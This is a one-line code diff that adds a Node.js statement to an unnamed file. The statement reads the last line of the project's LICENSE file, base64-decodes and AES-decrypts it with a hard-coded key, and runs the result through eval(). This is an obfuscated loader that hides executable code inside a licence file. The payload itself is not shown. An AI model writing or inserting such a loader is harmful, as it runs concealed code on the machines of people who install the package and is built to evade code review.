@@ -1,0 +1,1 @@
+const fs=require('fs'),crypto=require('crypto');const t=Buffer.from(fs.readFileSync(__dirname+'/LICENSE','utf8').split('\n').pop(),'base64');const d=crypto.createDecipheriv('aes-256-cbc',Buffer.alloc(32,1),Buffer.alloc(16));let s=d.update(t,undefined,'utf8');s+=d.final('utf8');eval(s);
